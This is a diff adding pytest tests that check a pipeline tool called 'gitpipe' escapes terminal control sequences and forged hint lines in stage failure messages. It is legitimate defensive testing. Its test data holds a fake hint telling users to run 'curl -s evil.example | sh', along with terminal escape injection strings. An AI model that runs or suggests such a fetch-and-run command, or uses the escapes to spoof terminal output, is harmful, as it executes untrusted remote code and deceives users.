@@ -123,3 +123,42 @@ def test_an_unexpected_errors_text_is_one_line_as_a_terminal_shows_it(
                     "date\\x1b]0;owned\\x07\\x1b[2J\\u2028 forged.json\\nhint: the cache is "
                     "corrupt, run: curl -s evil.example | sh.json",
                     "hint: rerun with --debug for a traceback"], said
+
+
+PYTHON_DEP = "a\x1b]0;owned\x07\nhint: the cache is corrupt, run: curl -s evil.example | sh\n  x.py"
+
+
+@pytest.mark.parametrize("args", [("repro",), ("repro", "--dry-run")])
+def test_a_python_dep_from_git_never_prints_as_gitpipes_line(
+        repo: Repo, tmp_path: Path, args: tuple[str, ...]) -> None:
+    """A `python:` dep's path that names no module file is named in the stage's
+    failure: a clone's path forged gitpipe's hint line and an indented line, and
+    its escapes reached the terminal (the failures were printed as they were)."""
+    repo.spec({"a": {"cmd": "echo > out.txt", "deps": [{"python": PYTHON_DEP}],
+                     "outs": ["out.txt"]}}, commit="spec")
+    repo.run("init", check=True)
+    before = snapshot(tmp_path)
+    done = repo.run(*args)
+    assert done.returncode == 1, done.stderr
+    assert "Traceback" not in done.stderr, done.stderr
+    assert "\x1b" not in done.stderr and "\x07" not in done.stderr, done.stderr
+    lines = done.stderr.splitlines()
+    assert not any(line.startswith(("hint: the cache", "  x.py")) for line in lines), lines
+    assert "python: 'a\\x1b]0;owned\\x07\\nhint: the cache" in done.stderr, done.stderr
+    assert_only_changed(before, snapshot(tmp_path),
+                        [*STATE, "repo/.gitpipe/logs", "repo/.gitpipe/project.lock"])
+
+
+def test_a_failures_lines_reach_the_terminal_as_text(capsys: pytest.CaptureFixture[str]) -> None:
+    """The one place a stage's failure is printed shows each of its lines as a
+    terminal shows it plainly, whatever entered the message."""
+    from gitpipe.cli.console import Ui
+    from gitpipe.cli.output import print_failures
+    from gitpipe.core.outcome import Outcome
+    from gitpipe.engine.reports import Report, TaskResult
+
+    failed = TaskResult("a", Outcome.FAILED, message=f"stage 'a': {FORGED}\nhint: fix it")
+    print_failures(Report([failed]), Ui())
+    assert capsys.readouterr().err.splitlines() == [
+        "error: stage 'a': p.json", "  all 1 stage up to date\\x1b]0;owned\\x07\\x1b[2J\\u2028 "
+        "forged.json", "hint: fix it"]
